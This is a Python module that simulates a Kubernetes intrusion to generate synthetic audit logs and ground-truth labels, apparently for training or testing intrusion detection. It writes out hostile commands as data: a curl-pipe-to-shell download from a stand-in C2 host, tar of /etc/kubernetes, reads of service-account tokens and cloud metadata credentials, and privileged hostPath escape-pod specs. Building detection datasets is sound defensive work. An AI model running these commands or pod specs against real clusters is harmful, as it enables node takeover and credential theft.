"""The attack story: framework, ground truth, and the first phases
(misconfiguration, anonymous recon, stolen shop:web token, secret theft,
escape pods, first execs).  Later phases live in attacks_late.py."""

import json
import os

from events import US, Identity, ts, rbac_reason
import bodies
from cluster import Pod, UA_CURL, UA_PYREQ, UA_KUBECTL, UA_GOHTTP

ANON_IP = "198.51.100.23"       # internet scanner that later uses the anonymous backdoor
ATTACKER_IP = "198.51.100.77"   # attacker workstation (kubectl v1.30.2)
C2 = "203.0.113.50"             # payload / reverse-shell host
UA_PYK8S = "OpenAPI-Generator/29.0.0/python"   # official kubernetes python client

H = 3600 * US
M = 60 * US

LEGACY_OPS = rbac_reason("ClusterRoleBinding", "web-legacy-ops", "ClusterRole", "legacy-ops",
                         "ServiceAccount", "web/shop")
WEB_ADMIN = rbac_reason("ClusterRoleBinding", "shop-web-admin", "ClusterRole", "cluster-admin",
                        "ServiceAccount", "web/shop")


def clock(text):
    """'11:31:40' -> offset from 08:00:00 (the story is written for the default start)."""
    h, m, s = (float(x) for x in text.split(":"))
    return int(((h - 8) * 3600 + m * 60 + s) * US)


def snapshot(ident):
    """A copy of an identity as it was when its credential was stolen."""
    return Identity(ident.name, list(ident.groups), uid=ident.uid,
                    extra={k: list(v) for k, v in (ident.extra or {}).items()}, kind=ident.kind)


def exec_query(cmd, container, tty=False, plus=True):
    """kubectl-style exec query: repeated command= values, then flags (sorted keys)."""
    from urllib.parse import quote, quote_plus
    enc = quote_plus if plus else (lambda v: quote(v, safe=""))
    parts = ["command=" + enc(c) for c in cmd]
    parts.append("container=" + container)
    if tty:
        parts += ["stdin=true", "stdout=true", "tty=true"]
    else:
        parts += ["stderr=true", "stdout=true"]
    return "&".join(parts)


class Story:
    def __init__(self, engine, api, world, rng):
        self.e, self.api, self.w, self.rng = engine, api, world, rng
        self.steps = []
        self.anon = Identity("system:anonymous", ["system:unauthenticated"])
        self.stolen_web = None
        self.stolen_worker = None
        self.victim = world.victim

    # ------------------------------------------------------------ bookkeeping
    def step(self, key, family, detections, account, description):
        rec = {"step": key, "family": family, "detections": [str(d) for d in detections],
               "account": account, "audit_ids": [], "start": None, "end": None,
               "description": description}
        self.steps.append(rec)
        return rec

    def add(self, rec, aid, t):
        rec["audit_ids"].append(aid)
        if rec["start"] is None or t < rec["_t0"]:
            rec["_t0"], rec["start"] = t, ts(t)
        if rec["end"] is None or t > rec["_t1"]:
            rec["_t1"], rec["end"] = t, ts(t)
        return aid

    def at(self, clock_text, fn):
        t = self.e.start + clock(clock_text) + self.rng.randint(0, 900_000)
        self.e.at(t, lambda tt: fn(tt) and None)

    def call(self, rec, t, *a, **kw):
        return self.add(rec, self.api.call(self.rng, t, *a, **kw), t)

    def nonres(self, rec, t, *a, **kw):
        return self.add(rec, self.api.nonres(self.rng, t, *a, **kw), t)

    def jitter(self, lo=0.3, hi=3.0):
        return self.rng.randint(int(lo * US), int(hi * US))

    # ------------------------------------------------------------ pods
    def attack_pod(self, t, ident, src, ua, reason, name, node, containers, volumes=(),
                   host_pid=False, host_network=False, host_ipc=False, node_name=None,
                   tolerations=None, ns="shop", sa="web", violations=None, rec=None,
                   bind=True):
        w, rng, api = self.w, self.rng, self.api
        pod = Pod(rng, ns, name, node, w.sas.get((ns, sa)) or w.sas[("shop", "web")],
                  image=containers[0]["image"], app=name, ports=(),
                  containers=[(c["name"], c["image"]) for c in containers],
                  configmaps=("kube-root-ca.crt",), host_network=host_network)
        pod.alive = False
        w.pods.append(pod)
        spec = bodies.pod_spec(containers, sa=sa, volumes=volumes, host_pid=host_pid,
                               host_network=host_network, host_ipc=host_ipc,
                               node_name=node_name, tolerations=tolerations)
        rv = self.e.next_rv(rng)
        pod.created_us = t
        req, resp = bodies.pod_create_bodies(pod, rng, t, rv, spec, manager=ua.split("/")[0])
        aid = api.call(rng, t, ident, "create", "pods", ns=ns, name=name,
                       query="fieldManager=kubectl-create&fieldValidation=Strict"
                       if ua.startswith("kubectl") else None,
                       src=src, ua=ua, level="RequestResponse", req=req, resp=resp,
                       ann=api.pod_ann(ns, reason, violations))
        if rec is not None:
            self.add(rec, aid, t)
        api.schedule_and_start(rng, t + rng.randint(30_000, 90_000), pod,
                               bind=bind and not node_name)
        return pod

    def exec_(self, rec, t, ident, pod, container, cmd, src, ua, reason, verb="create",
              tty=False, plus=True, duration=None, sub="exec"):
        query = exec_query(cmd, container, tty, plus) if sub == "exec" else (
            "container=%s&stdin=true&stdout=true&tty=true" % container)
        dur = duration or self.rng.randint(900_000, 6 * US)
        return self.call(rec, t, ident, verb, "pods", ns=pod.ns, name=pod.name, sub=sub,
                         query=query, src=src, ua=ua, reason=reason, code=101, started=101,
                         long=dur)

    # ------------------------------------------------------------ early phases
    def install(self):
        self.at("10:18:05", self.misconfig_authenticated_binding)
        self.at("10:58:12", self.anonymous_enumeration)
        self.at("11:31:40", self.token_first_use)
        self.at("11:33:05", self.denied_burst)
        self.at("11:36:20", self.secret_theft)
        self.at("11:41:02", self.escape_pods)
        self.at("11:44:10", self.first_execs)
        import attacks_late
        attacks_late.install(self)

    def misconfig_authenticated_binding(self, t):
        carol = self.w.humans["carol"]
        rec = self.step("rolebinding-system-authenticated", "anonymous-access", [4],
                        carol.name, "carol binds ClusterRole edit to Group system:authenticated "
                        "in staging (every authenticated identity may now edit staging).")
        body = bodies.rbac_binding("RoleBinding", "dev-access", "ClusterRole", "edit",
                                   [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io",
                                     "name": "system:authenticated"}], ns="staging")
        resp = bodies.with_response_meta(body, self.rng, t, self.e.next_rv(self.rng))
        self.call(rec, t, carol.identity, "create", "rolebindings", ns="staging",
                  name="dev-access", group="rbac.authorization.k8s.io",
                  query="fieldManager=kubectl-create&fieldValidation=Strict", src=carol.ip,
                  ua=UA_KUBECTL, reason=carol.reason, level="RequestResponse", req=body,
                  resp=resp)

    def anonymous_enumeration(self, t):
        rec = self.step("anonymous-enumeration-burst", "anonymous-access", [3], "system:anonymous",
                        "An internet host (%s) probes ~40 distinct API paths anonymously in "
                        "under a minute; all denied except /version." % ANON_IP)
        rng = self.rng
        res = [("list", "pods", None, None, ""), ("list", "secrets", None, None, ""),
               ("list", "namespaces", None, None, ""), ("list", "nodes", None, None, ""),
               ("list", "secrets", "kube-system", None, ""),
               ("list", "configmaps", "kube-system", None, ""),
               ("get", "configmaps", "kube-system", "kubeadm-config", ""),
               ("list", "pods", "kube-system", None, ""), ("list", "pods", "default", None, ""),
               ("list", "serviceaccounts", None, None, ""),
               ("list", "deployments", None, None, "apps"),
               ("list", "daemonsets", None, None, "apps"),
               ("list", "clusterroles", None, None, "rbac.authorization.k8s.io"),
               ("list", "clusterrolebindings", None, None, "rbac.authorization.k8s.io"),
               ("list", "customresourcedefinitions", None, None, "apiextensions.k8s.io"),
               ("list", "services", None, None, ""), ("list", "endpoints", None, None, ""),
               ("get", "secrets", "default", "default-token", ""),
               ("list", "events", None, None, ""), ("list", "cronjobs", None, None, "batch")]
        paths = ["/", "/api", "/apis", "/api/v1", "/openapi/v2", "/openapi/v3", "/metrics",
                 "/logs", "/debug/pprof/", "/.well-known/openid-configuration",
                 "/openid/v1/jwks", "/apis/apps/v1", "/swagger-ui/", "/.env", "/config.json",
                 "/ui/", "/api/v1/proxy", "/flags", "/configz", "/healthz/poststarthook"]
        items = [("r", x) for x in res] + [("p", x) for x in paths]
        rng.shuffle(items)
        self.nonres(rec, t, self.anon, "/version", ANON_IP, UA_GOHTTP,
                    reason='RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of '
                           'ClusterRole "system:public-info-viewer" to Group '
                           '"system:unauthenticated"')
        for kind, x in items:
            t += rng.randint(150_000, 1_400_000)
            if kind == "p":
                self.nonres(rec, t, self.anon, x, ANON_IP, UA_GOHTTP, code=403)
            else:
                verb, r, ns, name, grp = x
                self.call(rec, t, self.anon, verb, r, ns=ns, name=name, group=grp,
                          query="limit=500" if verb == "list" else None, src=ANON_IP,
                          ua=UA_GOHTTP, code=403)

    def token_first_use(self, t):
        v = self.victim
        self.stolen_web = snapshot(v.identity)
        ident = self.stolen_web
        rec = self.step("stolen-token-curl-from-pod", "service-account-anomaly", [5, 6],
                        ident.name, "The shop/web token is used from its own pod (%s) with "
                        "curl/8.4.0 instead of web-frontend/v2.3.1: discovery and pod listing."
                        % v.ip)
        self.nonres(rec, t, ident, "/api", v.ip, UA_CURL,
                    reason='RBAC: allowed by ClusterRoleBinding "system:discovery" of '
                           'ClusterRole "system:discovery" to Group "system:authenticated"')
        self.ssrr = self.step("self-rules-review", "service-account-anomaly", [7], ident.name,
                              "shop:web asks what it may do (selfsubjectrulesreviews), first "
                              "with curl from the pod, later with kubectl auth can-i --list.")
        t += self.jitter(5, 12)
        body = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1",
                "metadata": {"creationTimestamp": None}, "spec": {"namespace": "shop"},
                "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
        self.call(self.ssrr, t, ident, "create", "selfsubjectrulesreviews",
                  group="authorization.k8s.io", src=v.ip, ua=UA_CURL, level="Request",
                  req=body, reason="")
        t += self.jitter(8, 20)
        self.call(rec, t, ident, "list", "pods", ns="shop", src=v.ip, ua=UA_CURL,
                  reason=LEGACY_OPS)
        t += self.jitter(3, 9)
        self.call(rec, t, ident, "list", "pods", src=v.ip, ua=UA_CURL, reason=LEGACY_OPS)

    def denied_burst(self, t):
        v, ident, rng = self.victim, self.stolen_web, self.rng
        rec = self.step("stolen-token-denied-burst", "service-account-anomaly", [8, 5, 6],
                        ident.name, "python-requests enumeration with the stolen shop:web "
                        "token: ~25 requests in 40 s, most denied (403).")
        probes = [("list", "nodes", None, ""), ("list", "namespaces", None, ""),
                  ("list", "clusterroles", None, "rbac.authorization.k8s.io"),
                  ("list", "clusterrolebindings", None, "rbac.authorization.k8s.io"),
                  ("list", "roles", "shop", "rbac.authorization.k8s.io"),
                  ("list", "rolebindings", "kube-system", "rbac.authorization.k8s.io"),
                  ("list", "deployments", "kube-system", "apps"),
                  ("list", "daemonsets", None, "apps"), ("list", "serviceaccounts", "shop", ""),
                  ("list", "serviceaccounts", "kube-system", ""), ("list", "services", None, ""),
                  ("create", "deployments", "shop", "apps"), ("list", "cronjobs", None, "batch"),
                  ("list", "mutatingwebhookconfigurations", None, "admissionregistration.k8s.io"),
                  ("list", "nodes", None, "metrics.k8s.io"), ("list", "events", "shop", ""),
                  ("list", "persistentvolumes", None, ""),
                  ("list", "certificatesigningrequests", None, "certificates.k8s.io"),
                  ("get", "configmaps", "kube-system", ""), ("list", "ingresses", None,
                                                              "networking.k8s.io")]
        allowed = [("list", "pods", "kube-system"), ("list", "configmaps", "shop"),
                   ("list", "pods", "argocd"), ("list", "configmaps", "kube-system")]
        for i, (verb, r, ns, grp) in enumerate(probes):
            t += rng.randint(300_000, 2_500_000)
            name = "kubeadm-config" if (verb == "get") else None
            self.call(rec, t, ident, verb, r, ns=ns, name=name, group=grp,
                      version="v1beta1" if grp == "metrics.k8s.io" else "v1",
                      src=v.ip, ua=UA_PYREQ, code=403)
            if i % 5 == 2:
                verb, r, ns = allowed[i // 5]
                t += rng.randint(200_000, 900_000)
                self.call(rec, t, ident, verb, r, ns=ns, src=v.ip, ua=UA_PYREQ,
                          reason=LEGACY_OPS)

    def secret_theft(self, t):
        v, ident, rng, w = self.victim, self.stolen_web, self.rng, self.w
        rec = self.step("secret-list-cluster-wide", "secret-access", [18, 21, 6], ident.name,
                        "shop:web lists all secrets in the cluster (/api/v1/secrets) with "
                        "python-requests.")
        self.call(rec, t, ident, "list", "secrets", query="limit=500", src=v.ip, ua=UA_PYREQ,
                  reason=LEGACY_OPS)
        burst = self.step("secret-read-burst", "secret-access", [20, 19, 21], ident.name,
                          "Rapid reads of 14 distinct secrets across 7 namespaces, none read by "
                          "shop:web before (incl. ci/deployer-token).")
        targets = [("ci", "deployer-token"), ("kube-system", "bootstrap-token-7x4k2q"),
                   ("kube-system", "etcd-backup-s3"), ("argocd", "argocd-secret"),
                   ("argocd", "argocd-initial-admin-secret"), ("argocd", "repo-github-acme"),
                   ("shop", "stripe-api-key"), ("shop", "postgres-admin"),
                   ("monitoring", "grafana-admin"), ("monitoring", "alertmanager-slack-webhook"),
                   ("velero", "cloud-credentials"), ("cert-manager", "letsencrypt-prod-account-key"),
                   ("staging", "postgres-credentials"), ("kube-system", "kubeadm-certs")]
        t += self.jitter(15, 25)
        for ns, name in targets:
            t += rng.randint(300_000, 1_600_000)
            self.call(burst, t, ident, "get", "secrets", ns=ns, name=name, src=v.ip,
                      ua=UA_PYREQ, reason=LEGACY_OPS)
        curl = self.step("secret-read-curl", "secret-access", [21, 19], ident.name,
                         "A single secret read with curl from the web pod.")
        t += self.jitter(60, 90)
        self.call(curl, t, ident, "get", "secrets", ns="shop", name="postgres-credentials",
                  src=v.ip, ua=UA_CURL, reason=LEGACY_OPS)

    def escape_pods(self, t):
        v, ident, w = self.victim, self.stolen_web, self.w
        B = bodies
        viol = ('privileged (container "%s" must not set securityContext.privileged=true), '
                'host namespaces (hostNetwork=true, hostPID=true), hostPath volumes '
                '(volumes "host-root", "kube-etc")')
        r1 = self.step("pod-hostpath-root-privileged", "node-compromise", [14, 15, 16],
                       ident.name, "curl creates shop/web-cache-warmup pinned to the control-"
                       "plane node cp-1: privileged, hostPID, hostNetwork, hostPath / and "
                       "/etc/kubernetes, created from the web pod's IP.")
        c = B.container("warmup", "alpine:3.19", ports=(), privileged=True, probes=False, env=False,
                        command=["sleep", "infinity"], resources=False,
                        mounts=[("host-root", "/host", False), ("kube-etc", "/etc/kubernetes", False)])
        self.p1 = self.attack_pod(
            t, ident, v.ip, UA_CURL, LEGACY_OPS, "web-cache-warmup", w.cp, [c],
            volumes=[{"name": "host-root", "hostPath": {"path": "/", "type": ""}},
                     {"name": "kube-etc", "hostPath": {"path": "/etc/kubernetes",
                                                       "type": "Directory"}}],
            host_pid=True, host_network=True, node_name="cp-1",
            tolerations=[{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists",
                          "effect": "NoSchedule"}], violations=viol % "warmup", rec=r1)
        r2 = self.step("pod-hostpath-etc-proc-sysadmin", "node-compromise", [14, 15, 16],
                       ident.name, "python-requests creates shop/node-agent: hostPath /etc/ "
                       "(trailing slash) and /proc, SYS_ADMIN + SYS_PTRACE, runAsUser 0.")
        c = B.container("agent", "busybox:1.36", ports=(), caps=["SYS_ADMIN", "SYS_PTRACE"],
                        run_as_root=True, probes=False, env=False, resources=False,
                        command=["sh", "-c", "sleep 86400"],
                        mounts=[("etc", "/host-etc", False), ("proc", "/host-proc", True)])
        self.p2 = self.attack_pod(
            t + self.jitter(80, 100), ident, v.ip, UA_PYREQ, LEGACY_OPS, "node-agent",
            w.nodes[2], [c],
            volumes=[{"name": "etc", "hostPath": {"path": "/etc/", "type": ""}},
                     {"name": "proc", "hostPath": {"path": "/proc", "type": ""}}],
            violations='unrestricted capabilities (container "agent" must not include '
                       '"SYS_ADMIN", "SYS_PTRACE" in securityContext.capabilities.add), '
                       'hostPath volumes (volumes "etc", "proc"), runAsUser=0', rec=r2)
        r3 = self.step("pod-containerd-socket", "node-compromise", [14, 15, 16, 5], ident.name,
                       "kubectl (downloaded into the pod) creates shop/metrics-sidecar with the "
                       "containerd socket mounted and hostIPC.")
        c = B.container("sidecar", "docker.io/library/alpine:3.19", ports=(), probes=False, env=False,
                        resources=False, command=["sleep", "infinity"],
                        mounts=[("cri", "/run/containerd/containerd.sock", False)])
        self.p3 = self.attack_pod(
            t + self.jitter(150, 170), ident, v.ip, UA_KUBECTL, LEGACY_OPS, "metrics-sidecar",
            w.nodes[2], [c], host_ipc=True,
            volumes=[{"name": "cri", "hostPath": {"path": "/var/run/containerd/containerd.sock",
                                                  "type": "Socket"}}],
            violations='host namespaces (hostIPC=true), hostPath volumes (volume "cri")', rec=r3)

    def first_execs(self, t):
        v, ident, w = self.victim, self.stolen_web, self.w
        src = v.ip
        r = self.step("exec-download-and-run", "remote-exec", [10, 12], ident.name,
                      'First exec ever by shop:web (kubectl 1.29, verb create): sh -c "curl -s '
                      'http://%s/x.sh | sh" in web-cache-warmup (spaces as +).' % C2)
        self.exec_(r, t, ident, self.p1, "warmup",
                   ["sh", "-c", "curl -s http://%s/x.sh | sh" % C2], src, UA_KUBECTL, LEGACY_OPS)
        r = self.step("exec-tar-etc-kubernetes", "remote-exec", [10], ident.name,
                      "kubectl cp out of the control-plane escape pod: tar cf - /etc/kubernetes.")
        t += self.jitter(130, 160)
        self.exec_(r, t, ident, self.p1, "warmup", ["tar", "cf", "-", "/etc/kubernetes"], src,
                   UA_KUBECTL, LEGACY_OPS, duration=4_200_000)
        r = self.step("exec-read-sa-token", "remote-exec", [10], ident.name,
                      "Python client exec over WebSocket (verb get, %%20-encoded): sh -c \"cat "
                      "/var/run/secrets/kubernetes.io/serviceaccount/token\" in %s (shop:worker)."
                      % w.workers[1].name)
        t += self.jitter(140, 170)
        self.exec_(r, t, ident, w.workers[1], "worker",
                   ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"], src,
                   UA_PYK8S, LEGACY_OPS, verb="get", plus=False)
        self.stolen_worker = snapshot(w.workers[1].identity)
        r = self.step("exec-cloud-metadata", "remote-exec", [10], ident.name,
                      "curl to the cloud metadata service (169.254.169.254 IAM credentials) "
                      "from the escape pod.")
        t += self.jitter(140, 170)
        self.exec_(r, t, ident, self.p1, "warmup",
                   ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
                   src, UA_KUBECTL, LEGACY_OPS)


def install(engine, api, world, rng):
    story = Story(engine, api, world, rng)
    story.install()
    return story


def write_ground_truth(out, world, benign, story):
    void = story.e.void
    with open(os.path.join(out, "attacks.jsonl"), "w") as f:
        for rec in sorted(story.steps, key=lambda r: r.get("_t0", 0)):
            rec["audit_ids"] = [a for a in rec["audit_ids"] if a not in void]
            if not rec["audit_ids"]:
                continue
            f.write(json.dumps({k: v for k, v in rec.items() if not k.startswith("_")}) + "\n")
    with open(os.path.join(out, "benign.jsonl"), "w") as f:
        for key in sorted(benign.items):
            rec = benign.items[key]
            rec["audit_ids"] = [a for a in rec["audit_ids"] if a not in void]
            f.write(json.dumps(rec) + "\n")
